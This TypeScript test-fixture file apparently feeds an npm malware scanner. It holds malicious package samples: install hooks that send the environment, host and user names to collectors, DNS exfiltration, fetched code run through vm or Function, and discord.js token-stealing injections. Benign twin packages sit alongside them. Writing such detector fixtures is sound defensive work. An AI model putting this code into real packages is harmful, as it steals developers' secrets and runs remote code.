/**
 * npm malware families written for pkg23 (docs/package-analysis.md, "npm families, pkg23"): for each family, the
 * real shape and variants written here (another API, aliasing, a helper module between), and honest twins that
 * must not be BLOCKED or CAUTION. Inert text: nothing is installed or run. Hosts are reserved example names and
 * documentation addresses.
 */
export interface FamilyCase {
  id: string;
  family: 'hook-chain' | 'dns-recon' | 'deserialise-code' | 'client-injection' | 'fingerprint-post';
  files: Record<string, string>;
}

const pkg = (o: Record<string, unknown>): string => JSON.stringify({ name: 'acme-kit', version: '1.0.3', ...o });

// What the hook-chain variants run: host, user and environment posted to a collector.
const BEACON = `const os = require('os');
const https = require('https');
const body = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, env: process.env });
const req = https.request({ hostname: 'collect.acme-metrics.example', path: '/c', method: 'POST' });
req.write(body);
req.end();
`;

export const FAMILIES_PKG23: readonly FamilyCase[] = [
  // --- install hooks resolved through `node .`, `node ./`, run-script chains ---
  {
    id: 'hook-node-dot-main-in-scripts',
    family: 'hook-chain',
    files: { 'package.json': pkg({ main: 'scripts/boot.js', scripts: { postinstall: 'node .' } }), 'scripts/boot.js': BEACON },
  },
  {
    id: 'hook-node-dot-slash-index',
    family: 'hook-chain',
    files: { 'package.json': pkg({ scripts: { preinstall: 'node ./' } }), 'index.js': BEACON },
  },
  {
    id: 'hook-npm-run-chain-extensionless',
    family: 'hook-chain',
    files: {
      'package.json': pkg({ main: 'lib/index.js', scripts: { postinstall: 'npm run prep --silent', prep: 'npm run-script telemetry', telemetry: 'node ./tools/report' } }),
      'lib/index.js': 'module.exports = {};\n',
      'tools/report.js': BEACON,
    },
  },
  {
    id: 'hook-yarn-run-chain-helper',
    family: 'hook-chain',
    files: {
      'package.json': pkg({ main: 'lib/index.js', scripts: { install: 'yarn run setup && echo ok', setup: 'node scripts/setup.js' } }),
      'lib/index.js': 'module.exports = {};\n',
      'scripts/setup.js': "require('./util/send');\n",
      'scripts/util/send.js': BEACON,
    },
  },
  // --- DNS recon: a name built from the host name, user name or environment, looked up ---
  {
    id: 'dns-lookup-hostname-user',
    family: 'dns-recon',
    files: {
      'package.json': pkg({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
      'index.js': `const dns = require('dns');
const os = require('os');
const id = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');
dns.lookup(id + '.r.oast-acme.example', () => {});
`,
    },
  },
  {
    id: 'dns-promises-resolve-env-alias',
    family: 'dns-recon',
    files: {
      'package.json': pkg({ main: 'index.js', scripts: { preinstall: 'node index.js' } }),
      'index.js': `const { promises: r } = require('node:dns');
const { hostname } = require('node:os');
const tag = [hostname(), process.env.USER || process.env.USERNAME, process.cwd().length].join('-').replace(/[^a-z0-9-]/gi, '');
r.resolveTxt(\`\${tag}.t.beacon-acme.example\`).catch(() => {});
`,
    },
  },
  {
    id: 'dns-helper-module-resolver',
    family: 'dns-recon',
    files: {
      'package.json': pkg({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
      'index.js': `const q = require('./lib/q');
const os = require('os');
q(os.userInfo().username + '.' + os.hostname());
`,
      'lib/q.js': `const { Resolver } = require('dns');
const res = new Resolver();
module.exports = function q(label) {
  const safe = Buffer.from(label).toString('base64').replace(/[=+/]/g, '').slice(0, 60);
  res.resolve4(safe + '.d.beacon-acme.example', () => {});
};
`,
    },
  },
  {
    id: 'dns-nslookup-process',
    family: 'dns-recon',
    files: {
      'package.json': pkg({ main: 'index.js', scripts: { install: 'node index.js' } }),
      'index.js': `const cp = require('child_process');
const os = require('os');
const n = os.hostname().replace(/\\W/g, '') + '.' + os.userInfo().username;
cp.exec('nslookup ' + n + '.x.oast-acme.example', () => {});
`,
    },
  },
  // --- deserialising fetched data into code ---
  {
    id: 'deser-node-serialize-fetched',
    family: 'deserialise-code',
    files: {
      'package.json': pkg({ main: 'index.js', dependencies: { 'node-serialize': '0.0.4' } }),
      'index.js': `const ns = require('node-serialize');
const https = require('https');
https.get('https://cfg.acme-cdn.example/state', (res) => {
  let buf = '';
  res.on('data', (c) => (buf += c));
  res.on('end', () => ns.unserialize(buf));
});
`,
    },
  },
  {
    id: 'deser-vm-new-context-axios',
    family: 'deserialise-code',
    files: {
      'package.json': pkg({ main: 'index.js', dependencies: { axios: '1.6.0' } }),
      'index.js': `const axios = require('axios');
const { runInNewContext: run } = require('vm');
axios.get('https://cfg.acme-cdn.example/plugin').then((r) => run(r.data, { require, process }));
`,
    },
  },
  {
    id: 'deser-function-body-fetch',
    family: 'deserialise-code',
    files: {
      'package.json': pkg({ main: 'index.js' }),
      'index.js': `const F = Function;
(async () => {
  const res = await fetch('https://cfg.acme-cdn.example/hooks.js');
  const body = await res.text();
  F('require', body)(require);
})();
`,
    },
  },
  {
    id: 'deser-helper-module-vm',
    family: 'deserialise-code',
    files: {
      'package.json': pkg({ main: 'index.js' }),
      'index.js': `const get = require('./lib/get');
const vm = require('vm');
get('https://cfg.acme-cdn.example/p').then((src) => new vm.Script(src).runInThisContext());
`,
      'lib/get.js': `const https = require('https');
module.exports = (u) => new Promise((ok) => https.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => ok(d)); }));
`,
    },
  },
  // --- a chat client's token taken by code written into another package's files ---
  {
    id: 'inject-discordjs-client-append',
    family: 'client-injection',
    files: {
      'package.json': pkg({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
      'index.js': `const fs = require('fs');
const path = require('path');
const target = path.join(process.cwd(), 'node_modules', 'discord.js', 'src', 'client', 'Client.js');
const hook = "\\nconst __h=require('https');const __l=Client.prototype.login;Client.prototype.login=function(t){__h.get('https://hook.acme-relay.example/t?k='+t);return __l.call(this,t)};\\n";
if (fs.existsSync(target)) fs.appendFileSync(target, hook);
`,
    },
  },
  {
    id: 'inject-resolve-other-package-write',
    family: 'client-injection',
    files: {
      'package.json': pkg({ main: 'index.js' }),
      'index.js': `const { readFileSync: r, writeFileSync: w } = require('fs');
let file;
try { file = require.resolve('discord.js'); } catch (e) { file = null; }
if (file) {
  const src = r(file, 'utf8');
  w(file, src.replace('module.exports', "require('https').request({host:'hook.acme-relay.example',path:'/'+process.env.DISCORD_TOKEN}).end();module.exports"));
}
`,
    },
  },
  {
    id: 'inject-helper-module-patch',
    family: 'client-injection',
    files: {
      'package.json': pkg({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
      'index.js': `const patch = require('./lib/patch');
patch('discord.js/src/client/BaseClient.js', "this.on('ready',()=>fetch('https://hook.acme-relay.example/x',{method:'POST',body:this.token}));");
`,
      'lib/patch.js': `const fs = require('fs');
const path = require('path');
module.exports = (rel, code) => {
  const f = path.resolve(__dirname, '..', '..', rel);
  fs.writeFileSync(f, fs.readFileSync(f, 'utf8') + code);
};
`,
    },
  },
  // --- a machine fingerprint posted to an issue tracker or a form ---
  {
    id: 'fp-github-issue-post',
    family: 'fingerprint-post',
    files: {
      'package.json': pkg({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
      'index.js': `const os = require('os');
const https = require('https');
const fp = { host: os.hostname(), user: os.userInfo().username, ifs: os.networkInterfaces(), home: os.homedir() };
const req = https.request({ hostname: 'api.github.com', path: '/repos/acme-drop/inbox/issues', method: 'POST',
  headers: { authorization: 'token ghp_' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8', 'user-agent': 'x' } });
req.end(JSON.stringify({ title: os.hostname(), body: JSON.stringify(fp) }));
`,
    },
  },
  {
    id: 'fp-google-form-helper',
    family: 'fingerprint-post',
    files: {
      'package.json': pkg({ main: 'index.js', scripts: { preinstall: 'node index.js' } }),
      'index.js': `const send = require('./lib/form');
const os = require('os');
send({ 'entry.1001': os.hostname(), 'entry.1002': os.userInfo().username, 'entry.1003': JSON.stringify(os.networkInterfaces()) });
`,
      'lib/form.js': `const qs = require('querystring');
module.exports = (fields) => fetch('https://docs.google.com/forms/d/e/1FAIpQLSacme/formResponse', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: qs.stringify(fields) });
`,
    },
  },
  {
    id: 'fp-gitlab-issue-axios',
    family: 'fingerprint-post',
    files: {
      'package.json': pkg({ main: 'index.js', scripts: { install: 'node index.js' } }),
      'index.js': `const ax = require('axios');
const { hostname, userInfo, platform, arch } = require('os');
ax.post('https://gitlab.com/api/v4/projects/4242/issues', { title: 'n', description: [hostname(), userInfo().username, platform(), arch(), process.cwd()].join('|') }, { headers: { 'PRIVATE-TOKEN': 'glpat-' + 'x9Y8w7V6u5T4s3R2q1P0' } });
`,
    },
  },
  {
    // The honest bug-report command's post (twin below), made by the package's main module when it is loaded, unasked:
    // the package's own tracker is no excuse for a fingerprint sent on import.
    id: 'fp-own-repo-issue-on-import',
    family: 'fingerprint-post',
    files: {
      'package.json': pkg({ main: 'index.js', repository: 'github:acme/acme-kit' }),
      'index.js': `const os = require('os');
fetch('https://api.github.com/repos/acme/acme-kit/issues', { method: 'POST', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN }, body: JSON.stringify({ title: os.hostname(), body: os.userInfo().username + ' ' + JSON.stringify(os.networkInterfaces()) }) });
module.exports = {};
`,
    },
  },
];

export const TWINS_PKG23: readonly FamilyCase[] = [
  {
    id: 'twin-hook-node-dot-builds',
    family: 'hook-chain',
    files: {
      'package.json': pkg({ main: 'scripts/build.js', scripts: { postinstall: 'node .' } }),
      'scripts/build.js': "const fs = require('fs');\nconst path = require('path');\nfs.mkdirSync(path.join(__dirname, '..', 'dist'), { recursive: true });\nfs.copyFileSync(path.join(__dirname, '..', 'src', 'a.js'), path.join(__dirname, '..', 'dist', 'a.js'));\n",
      'src/a.js': 'module.exports = 1;\n',
    },
  },
  {
    id: 'twin-dns-health-check-configured-host',
    family: 'dns-recon',
    files: {
      'package.json': pkg({ main: 'index.js', bin: { 'acme-health': 'index.js' } }),
      'index.js': `const dns = require('dns');
const os = require('os');
const host = process.env.DB_HOST || 'localhost';
dns.lookup(host, (err, addr) => {
  console.log(os.hostname() + ': ' + host + (err ? ' unresolved' : ' -> ' + addr));
});
`,
    },
  },
  {
    id: 'twin-cli-bug-report-confirmed',
    family: 'fingerprint-post',
    files: {
      'package.json': pkg({ main: 'index.js', bin: { 'acme-report': 'cli.js' }, bugs: { url: 'https://github.com/acme/acme-kit/issues' } }),
      'index.js': 'module.exports = {};\n',
      'cli.js': `#!/usr/bin/env node
const os = require('os');
const readline = require('readline');
const body = 'acme-kit 1.0.3, node ' + process.version + ', ' + os.platform() + ' ' + os.release() + ' ' + os.arch();
const rl = readline.createInterface({ input: process.stdin, output: process.stdout });
console.log(body);
rl.question('Send this report to the acme-kit issue tracker? [y/N] ', (a) => {
  rl.close();
  if (a.trim().toLowerCase() !== 'y') return;
  fetch('https://api.github.com/repos/acme/acme-kit/issues', { method: 'POST', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN }, body: JSON.stringify({ title: 'bug report', body }) });
});
`,
    },
  },
  {
    id: 'twin-json-parse-of-api',
    family: 'deserialise-code',
    files: {
      'package.json': pkg({ main: 'index.js' }),
      'index.js': `const https = require('https');
module.exports = function latest(cb) {
  https.get('https://api.acme-kit.example/v1/latest', (res) => {
    let d = '';
    res.on('data', (c) => (d += c));
    res.on('end', () => cb(JSON.parse(d).version));
  });
};
`,
    },
  },
  {
    id: 'twin-patch-own-files',
    family: 'client-injection',
    files: {
      'package.json': pkg({ main: 'index.js', scripts: { postinstall: 'node scripts/fix.js' } }),
      'index.js': 'module.exports = {};\n',
      'scripts/fix.js': "const fs = require('fs');\nconst path = require('path');\nconst f = path.join(__dirname, '..', 'dist', 'build.js');\nif (fs.existsSync(f)) fs.writeFileSync(f, fs.readFileSync(f, 'utf8').replace('__VERSION__', '1.0.3'));\n",
    },
  },
  {
    // The working directory handed to a download helper at install (where to put the package's own binary): a path,
    // not a report about the machine.
    id: 'twin-install-helper-gets-cwd',
    family: 'hook-chain',
    files: {
      'package.json': pkg({ main: 'index.js', homepage: 'https://acme-kit.example', scripts: { postinstall: 'node install.js' } }),
      'index.js': 'module.exports = {};\n',
      'install.js': "const fetchBin = require('./lib/fetch-bin');\nconst os = require('os');\nfetchBin(process.cwd(), os.platform() + '-' + os.arch());\n",
      'lib/fetch-bin.js': "const https = require('https');\nconst fs = require('fs');\nconst path = require('path');\nmodule.exports = (dir, target) => https.get('https://dl.acme-kit.example/bin/' + target, (res) => res.pipe(fs.createWriteStream(path.join(dir, 'acme-bin'))));\n",
    },
  },
  {
    // A connectivity check in a helper module, handed the host the user configured and the machine's name for its log.
    id: 'twin-dns-helper-configured-host',
    family: 'dns-recon',
    files: {
      'package.json': pkg({ main: 'index.js', bin: { 'acme-check': 'cli.js' } }),
      'index.js': 'module.exports = {};\n',
      'cli.js': "const check = require('./lib/check');\nconst os = require('os');\ncheck(process.env.ACME_HOST || 'localhost', os.hostname());\n",
      'lib/check.js': "const dns = require('dns');\nmodule.exports = (host, me) => dns.lookup(host, (err, a) => console.log(me, host, err ? 'down' : a));\n",
    },
  },
];
